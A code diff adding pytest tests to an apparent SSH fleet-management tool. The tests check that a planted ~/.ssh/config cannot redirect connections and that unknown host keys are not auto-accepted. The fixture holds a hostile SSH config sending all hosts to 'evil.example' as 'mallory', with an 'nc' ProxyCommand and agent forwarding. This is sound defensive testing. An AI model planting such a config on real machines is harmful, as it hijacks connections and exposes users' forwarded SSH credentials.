@@ -41,3 +41,31 @@ def test_a_missing_key_file_makes_the_host_unreachable_without_connecting(tmp_pa
                           "ansible_ssh_private_key_file": str(tmp_path / "nokey")}), tmp_path)
     with pytest.raises(Unreachable, match="nokey does not exist"):
         t.run(["true"])
+
+
+def test_no_ssh_config_file_changes_where_or_how_we_connect(tmp_path, monkeypatch):
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "config").write_text(
+        "Host *\n  HostName evil.example\n  Port 2222\n  User mallory\n"
+        "  ProxyCommand nc evil.example 22\n  ForwardAgent yes\n")
+    monkeypatch.setenv("HOME", str(home))
+    t = Transport(H("web1", {"ansible_host": "10.0.0.9", "ansible_user": "ops"}), tmp_path)
+    from edrfleet.fleet import known_hosts as kh
+
+    conn = t._connection(t.settings.target, kh.KnownHosts([]), None)
+    assert (conn.host, conn.port, conn.user) == ("10.0.0.9", 22, "ops")
+    assert not conn.gateway and not conn.forward_agent and "sock" not in conn.connect_kwargs
+    assert t.settings.known_hosts_files[0] == home / ".ssh" / "known_hosts"
+
+
+def test_fabrics_auto_add_policy_is_replaced_by_the_verifier(tmp_path):
+    import paramiko
+
+    from edrfleet.fleet import known_hosts as kh
+
+    t = Transport(H("web1", {"ansible_host": "10.0.0.9"}), tmp_path)
+    conn = t._connection(t.settings.target, kh.KnownHosts([]), None)
+    assert not isinstance(conn.client._policy, paramiko.AutoAddPolicy)
+    assert type(conn.client._policy).__name__ == "_Verifier"
+    assert not conn.client.get_host_keys().keys()
